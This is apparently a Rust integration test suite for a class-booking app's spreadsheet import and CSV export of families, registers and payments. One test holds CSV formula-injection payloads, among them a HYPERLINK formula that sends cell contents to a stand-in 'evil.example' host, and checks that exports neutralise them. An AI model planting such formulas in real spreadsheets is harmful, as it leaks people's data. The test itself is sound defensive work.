//! Families come in from a spreadsheet, whole or not at all, and go out to one in which nothing can run.

use std::time::Instant;

use axum::http::StatusCode;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};

use crate::support::app::TestApp;
use crate::support::visitor::Visitor;
use crate::support::{course, people};

/// An owner with a class of four places that begins today.
async fn owner_with_class(app: &TestApp) -> (Visitor, String) {
    let mut owner = people::owner(app).await;
    course::plan(app).await;
    let class = course::class(&mut owner).await;
    (owner, class)
}

/// Looks at a table that is pasted.
pub async fn look(owner: &mut Visitor, table: &str) {
    owner.open("/families/import").await;
    owner.fill("The table as text", table).press("See what it would bring").await;
}

/// The families of a practice as they leave it.
async fn exported(owner: &mut Visitor) -> Vec<Vec<String>> {
    let page = owner.open("/families.csv").await;
    assert_eq!(page.header("content-disposition"), "attachment; filename=\"families.csv\"");
    read(&page.body)
}

/// A table as a spreadsheet reads it.
fn read(file: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(file).unwrap().strip_prefix('\u{feff}').expect("UTF-8 that says so");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(text.matches("\r\n").count(), rows.len(), "each row ends as the standard says: {text:?}");
    rows
}

/// A workbook as instructors keep them: a title, headings, dates as dates.
pub fn workbook() -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    let day = Format::new().set_num_format("dd/mm/yyyy");
    sheet.write(0, 0, "My Thursday group").unwrap();
    let headings = ["Mum's name", "Email", "Mobile", "Baby's name", "DOB", "Weeks early", "Shoe size", "Notes"];
    for (column, heading) in (0..).zip(headings) {
        sheet.write(2, column, heading).unwrap();
    }
    let people = [
        ("Mira Holloway", "mira@post.example", 447_700_900_111_i64, "Leo", 0, "Comes by bus."),
        ("Tess Arkwright", "tess@post.example", 447_700_900_112, "Otis", 3, ""),
        ("Tess Arkwright", "tess@post.example", 447_700_900_112, "Wren", 3, ""),
    ];
    for (row, (mum, email, phone, baby, early, note)) in (3..).zip(people) {
        sheet.write(row, 0, mum).unwrap();
        sheet.write(row, 1, email).unwrap();
        sheet.write(row, 2, phone).unwrap();
        sheet.write(row, 3, baby).unwrap();
        sheet.write_with_format(row, 4, ExcelDateTime::from_ymd(2026, 9, 3).unwrap(), &day).unwrap();
        sheet.write(row, 5, early).unwrap();
        sheet.write(row, 7, note).unwrap();
    }
    workbook.save_to_buffer().unwrap()
}

#[tokio::test]
async fn a_spreadsheet_comes_in_after_it_was_looked_at() {
    let app = TestApp::new().await;
    let (mut owner, class) = owner_with_class(&app).await;
    owner.open(&format!("{class}/families")).await;
    owner.follow("Bring in families from a spreadsheet").await;
    owner.press_with_file("See what it would bring", &workbook()).await;
    assert_eq!(owner.page.status, StatusCode::OK, "{}", owner.page.text());
    let text = owner.page.text();
    for shown in [
        "2 new families. Nothing is written yet.",
        "The headings stand in row 3.",
        "Otis, born 3 September 2026, 3 weeks early Wren, born 3 September 2026, 3 weeks early",
        "Row 6, Tess Arkwright, Wren: Comes in with the family of row 5.",
        "Comes by bus.",
        "447700900111",
    ] {
        assert!(text.contains(shown), "{shown}: {text}");
    }
    assert_eq!(app.number("SELECT count(*) FROM family").await, 0, "a look writes nothing");
    owner.press("Bring in 2 families").await;
    let text = owner.page.text();
    assert!(text.contains("2 of 2 All 2 families are in."), "{text}");
    let text = owner.open(&format!("{class}/families")).await.text();
    assert!(text.contains("2 of 4 places taken.") && text.contains("Mira Holloway"), "{text}");
    assert!(text.contains("Wren, 12 weeks, corrected 9"), "{text}");
}

#[tokio::test]
async fn mistakes_are_told_by_row_and_column_and_what_is_mended_later_is_known() {
    let app = TestApp::new().await;
    let (mut owner, _) = owner_with_class(&app).await;
    let table =
        "Baby;Date of birth;E-mail\nLeo;24/9/2026;leo@post.example\nAda;someday;ada@post.example\n\n;1/10/2026;sol";
    look(&mut owner, table).await;
    assert_eq!(owner.page.status, StatusCode::UNPROCESSABLE_ENTITY);
    let text = owner.page.text();
    for told in [
        "2 rows cannot come in as they stand",
        "Row 3, Date of birth: “someday”: Please write a day like 24 Dec 2026",
        "Row 5, Baby: Please write the baby’s first name.",
        "Row 5, E-mail: “sol”: Please give an e-mail address",
    ] {
        assert!(text.contains(told), "{told}: {text}");
    }
    assert_eq!(owner.value("The table as text"), table, "what was pasted is still there");
    owner.press("Leave out 2 rows and bring in 1 family").await;
    assert!(owner.page.text().contains("The family is in."), "{}", owner.page.text());
    look(&mut owner, &table.replace("someday", "3 Oct 2026").replace(";1/10", "Sol;1/10").replace("sol\n", "")).await;
    let text = owner.page.text();
    assert!(text.contains("Row 2, Leo: “Thursday mornings” has a baby of this name and date of birth."), "{text}");
    owner.press("Leave out 1 row and bring in 1 family").await;
    assert_eq!(app.texts("SELECT name FROM baby ORDER BY id").await, ["Leo", "Ada"]);
}

#[tokio::test]
async fn what_is_guessed_wrongly_is_chosen_by_hand() {
    let app = TestApp::new().await;
    let (mut owner, _) = owner_with_class(&app).await;
    let second = course::class_from(&mut owner, "2026-09-03", "").await;
    app.run("UPDATE class SET name = 'Autumn' WHERE id = (SELECT max(id) FROM class)").await;
    let table = "Little one\tArrived\tReach\tWhen\tAllergies\tRemarks\nLeo\t09/24/2026\tleo@post.example\tThu\tnuts\tshy\n\
        Ada\t09/25/2026\tada@post.example\tlast year\t\t\n";
    look(&mut owner, table).await;
    assert_eq!(owner.page.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(owner.page.text().contains("Please choose the column that holds “Baby”"), "{}", owner.page.text());
    owner.choose("Little one", "Baby").choose("Arrived", "Date of birth").choose("Reach", "E-mail");
    owner.choose("When", "Class").choose("Allergies", "Private note");
    owner.choose("Dates in digits", "month first: 3/4 is 4 March").press("Look again").await;
    assert!(owner.page.text().contains("2 rows are left out"), "{}", owner.page.text());
    owner.choose("Rows of “Thu” go to", "Autumn").press("Look again").await;
    let text = owner.page.text();
    assert!(text.contains("Leo, born 24 September 2026") && text.contains("1 row is left out"), "{text}");
    assert!(text.contains("Allergies: nuts Remarks: shy"), "{text}");
    owner.press("Bring in 1 family").await;
    assert!(owner.open(&format!("{second}/families")).await.text().contains("Leo’s family"));
}

#[tokio::test]
async fn what_changed_since_the_look_is_shown_again() {
    let app = TestApp::new().await;
    let (mut owner, class) = owner_with_class(&app).await;
    let table = "Baby,DOB,E-mail\nLeo,24/9/2026,leo@post.example\nAda,25/9/2026,ada@post.example\n";
    look(&mut owner, table).await;
    let mut window = owner.clone();
    course::family(&mut owner, &class, "Mira Holloway", "Leo").await;
    let mut edited = window.clone();
    window.press("Bring in 2 families").await;
    assert_eq!(window.page.status, StatusCode::CONFLICT);
    assert!(window.page.text().contains("changed since you looked"), "{}", window.page.text());
    edited.fill("The table as text", &table.replace("Ada", "Eva")).press("Bring in 2 families").await;
    assert_eq!(edited.page.status, StatusCode::CONFLICT, "what comes in is what was shown");
    assert_eq!(app.number("SELECT count(*) FROM family").await, 1);
    window.press("Bring in 1 family").await;
    assert_eq!(app.number("SELECT count(*) FROM family").await, 2);
}

#[tokio::test]
async fn a_class_takes_as_many_as_it_has_places() {
    let app = TestApp::new().await;
    let (mut owner, class) = owner_with_class(&app).await;
    course::family(&mut owner, &class, "Mira Holloway", "Leo").await;
    let rows: String = (1..=5).map(|day| format!("B{day},{day}/9/2026,b{day}@post.example\n")).collect();
    look(&mut owner, &format!("Baby,DOB,E-mail\n{rows}")).await;
    let text = owner.page.text();
    assert!(text.contains("Rows 5 and 6, Class: “Thursday mornings” has no place left."), "{text}");
    owner.press("Leave out 2 rows and bring in 3 families").await;
    assert_eq!(app.number("SELECT count(*) FROM family").await, 4);
}

#[tokio::test]
async fn when_the_browser_goes_away_nothing_is_written() {
    let app = TestApp::new().await;
    let (mut owner, _) = owner_with_class(&app).await;
    app.run("UPDATE class SET capacity = 60").await;
    let rows: String = (0..60).map(|at| format!("Baby {at},1/9/2026,b{at}@post.example\n")).collect();
    look(&mut owner, &format!("Baby,DOB,E-mail\n{rows}")).await;
    let mut again = owner.clone();
    let words = owner.press_and_leave("Bring in 60 families").await;
    assert!(String::from_utf8_lossy(&words).contains("Bringing in 60 families"));
    app.run("SELECT 1").await;
    for table in ["family", "adult", "baby"] {
        assert_eq!(app.number(&format!("SELECT count(*) FROM {table}")).await, 0, "{table}");
    }
    again.press("Bring in 60 families").await;
    let text = again.page.text();
    assert!(text.contains("50 of 60 60 of 60 All 60 families are in."), "{text}");
    assert_eq!(app.number("SELECT count(*) FROM family").await, 60);
}

#[tokio::test]
async fn what_leaves_one_practice_comes_into_another_as_it_was() {
    let (ours, theirs) = (TestApp::new().await, TestApp::new().await);
    let (mut owner, class) = owner_with_class(&ours).await;
    course::fill_family(&mut owner, &class, "Tess O’Hara", "Otis").await;
    owner.within("Adult").fill("Phone", "+44 20 7946 0000");
    owner.within("Second adult").fill("Name", "Bea Lindqvist").fill("E-mail", "bea@post.example");
    owner.within("Baby").fill("Weeks born early", "3");
    owner.within("Second baby").fill("First name", "Wren").fill("Date of birth", "2026-09-24");
    owner.anywhere().choose("Begins in", "week 2, Thu 3 Dec");
    owner.fill("Private note", "Likes \"Down, down\";\n- comes by bus\n=1+1").press("Add the family").await;
    course::family(&mut owner, &class, "Mira Holloway", "Leo").await;
    let left = exported(&mut owner).await;
    assert_eq!(left.len(), 3, "{left:?}");
    assert_eq!(left[1][5], "'+44 20 7946 0000", "a phone number stays readable");

    let (mut other, _) = owner_with_class(&theirs).await;
    let file = owner.open("/families.csv").await.body.clone();
    other.open("/families/import").await;
    other.press_with_file("See what it would bring", &file).await;
    other.press("Bring in 2 families").await;
    assert_eq!(exported(&mut other).await, left);
    let note = "SELECT note FROM family ORDER BY id";
    assert_eq!(theirs.texts(note).await, ours.texts(note).await);
}

#[tokio::test]
async fn no_formula_can_run_from_a_cell() {
    const FORMULAS: [&str; 6] =
        ["=HYPERLINK(\"https://evil.example?x=\"&A1)", "+44 1 cmd", "@SUM(1+1)", "-1+1", "\u{ff1d}1+1", "a;=1+1;b"];
    let app = TestApp::new().await;
    let (mut owner, class) = owner_with_class(&app).await;
    app.run("UPDATE class SET capacity = 60").await;
    let cell = |formula: &str| format!("\"{}\"", formula.replace('"', "\"\""));
    let rows: String = FORMULAS
        .iter()
        .enumerate()
        .map(|(at, formula)| format!("{0},{0},{1}/9/2026,b{at}@post.example,{0}\n", cell(formula), at + 1))
        .collect();
    look(&mut owner, &format!("Parent,Baby,DOB,E-mail,Note\n{rows}")).await;
    owner.press("Bring in 6 families").await;
    assert_eq!(app.texts("SELECT name FROM baby ORDER BY id").await, FORMULAS, "a text stays a text");
    course::teach(&mut owner, &class, 1).await;
    owner.press("All here").await;
    let mut tables = exported(&mut owner).await;
    tables.extend(read(&owner.open(&format!("{class}/families.csv")).await.body));
    tables.extend(read(&owner.open(&format!("{class}/register.csv")).await.body));
    assert_eq!(tables.len(), 21);
    for cell in tables.iter().flatten() {
        // As a spreadsheet splits it that knows semicolons and line ends, and no quotation marks.
        for part in cell.split([';', '\t', '\n', '\r']) {
            let runs =
                part.trim_start().starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']);
            assert!(!runs, "{cell:?}");
        }
    }
    assert!(tables.iter().flatten().any(|cell| cell == "'=HYPERLINK(\"https://evil.example?x=\"&A1)"), "{tables:?}");
}

#[tokio::test]
async fn a_register_is_read_printed_and_taken_along() {
    let app = TestApp::new().await;
    let (mut owner, class) = owner_with_class(&app).await;
    course::family(&mut owner, &class, "Mira Holloway", "Leo").await;
    course::fill_family(&mut owner, &class, "Ruth Oakes", "Sol").await;
    owner.choose("Begins in", "week 2, Thu 3 Dec").press("Add the family").await;
    course::teach(&mut owner, &class, 1).await;
    owner.choose("Mira Holloway", "said not today").press("Save the register").await;
    owner.open(&class).await;
    owner.follow("Register of the whole course").await;
    let text = owner.page.text();
    assert!(text.contains("Mira Holloway Leo said not today to come"), "{text}");
    assert!(text.contains("Ruth Oakes Sol not expected to come"), "{text}");
    assert!(text.contains("Came 1"), "{text}");
    owner.follow("As a table (CSV)").await;
    assert_eq!(owner.page.header("content-disposition"), "attachment; filename=\"register.csv\"");
    let rows = read(&owner.page.body);
    assert_eq!(rows[0][..4], ["Family", "Babies", "Week 1, 2026-11-26", "Week 2, 2026-12-03"]);
    assert_eq!(rows[1][..4], ["Mira Holloway", "Leo", "said not today", ""]);
    assert_eq!(rows[2][..4], ["Ruth Oakes", "Sol", "not expected", ""]);
    let mut other = people::second_practice(&app).await;
    for way in ["families.csv", "register", "register.csv"] {
        assert_eq!(other.open(&format!("{class}/{way}")).await.status, StatusCode::NOT_FOUND);
    }
    assert_eq!(read(&other.open("/families.csv").await.body).len(), 1, "the headings alone");
}

#[tokio::test]
async fn money_leaves_in_columns_that_can_be_added_up() {
    let app = TestApp::new().await;
    let (mut owner, class) = owner_with_class(&app).await;
    owner.open(&class).await;
    owner.follow("Price").await;
    owner.fill("Price of the course", "85").choose("Currency", "GBP, Pound sterling").press("Save the price").await;
    course::family(&mut owner, &class, "Mira Holloway", "Leo").await;
    owner.follow("Mira Holloway").await;
    owner.follow("Money: what is due and paid").await;
    owner.press("Charge the price").await;
    owner.within("Note a payment").fill("Amount", "42.50").choose("How", "in cash").press("Note the payment").await;
    owner.within("Give money back").fill("Amount", "10").choose("How", "by transfer");
    owner.fill("What for", "=SUM(1)").untick("The family does not pay it again");
    owner.press("Note what was given back").await;
    let rows = read(&owner.open("/money.csv").await.body);
    assert_eq!(rows[0][3..7], ["What", "Owes more", "Owes less", "Currency"]);
    assert_eq!(rows[1][1..3], ["Thursday mornings", "Mira Holloway"]);
    let sums: Vec<_> = rows[1..].iter().map(|row| (&*row[4], &*row[5], &*row[6], &*row[7])).collect();
    assert_eq!(sums, [("85", "", "GBP", ""), ("", "42.50", "GBP", "cash"), ("10", "", "GBP", "transfer")]);
    assert_eq!(rows[3][3], "Given back by transfer: =SUM(1)");
    let mut other = people::second_practice(&app).await;
    assert_eq!(read(&other.open("/money.csv").await.body).len(), 1, "the headings alone");
}

#[tokio::test]
async fn no_file_of_another_kind_or_size_comes_in() {
    let app = TestApp::new().await;
    let (mut owner, _) = owner_with_class(&app).await;
    let long = "Leo,24/9/2026,leo@post.example\n".repeat(40_000);
    for (file, status, sentence) in [
        (&b""[..], 422, "Please choose a file, or paste the table."),
        (b"\x89PNG\r\n\x1a\n\0\0\0", 422, "This is no table."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 422, "another kind of spreadsheet, or it has a password"),
        (b"PK\x03\x04nothing", 422, "This spreadsheet is damaged."),
        (b"Baby,\"DOB\nLeo", 422, "Row 1: a quotation mark opens a cell there and is never closed."),
        (long.as_bytes(), 422, "5000 rows, 60 columns and 1 MB of text fit."),
        (&[b'x'; 10 * 1024 * 1024], 413, "This is more than can be taken at once"),
    ] {
        owner.open("/families/import").await;
        owner.press_with_file("See what it would bring", file).await;
        assert_eq!(owner.page.status, status, "{sentence}");
        assert!(owner.page.text().contains(sentence), "{sentence}: {}", owner.page.text());
    }
    assert_eq!(app.number("SELECT count(*) FROM family").await, 0);
}

#[tokio::test]
#[expect(clippy::print_stderr, reason = "`--nocapture` shows how long it took")]
async fn two_thousand_rows_come_in_at_once() {
    let app = TestApp::new().await;
    let mut owner = people::owner(&app).await;
    course::plan(&app).await;
    for _ in 0..34 {
        course::class(&mut owner).await;
    }
    app.run("UPDATE class SET capacity = 60, name = 'Class ' || (id - (SELECT min(id) FROM class))").await;
    let row = |at: usize| {
        let (class, day) = (at / 60, at % 28 + 1);
        format!("Class {class},Parent {at},p{at}@post.example,+44 7700 9{at:05},Baby {at},{day}/9/2026,Note {at}\n")
    };
    let rows: String = (0..2_000).map(row).collect();
    look(&mut owner, &format!("Class,Parent,E-mail,Phone,Baby,DOB,Notes\n{rows}")).await;
    assert!(owner.page.text().contains("2000 new families."), "{}", owner.page.text());
    let begun = Instant::now();
    owner.press("Bring in 2000 families").await;
    eprintln!("2,000 rows came in within {:?}", begun.elapsed());
    assert!(owner.page.text().contains("1950 of 2000 2000 of 2000 All 2000 families are in."));
    for table in ["family", "adult", "baby"] {
        assert_eq!(app.number(&format!("SELECT count(*) FROM {table}")).await, 2_000, "{table}");
    }
}
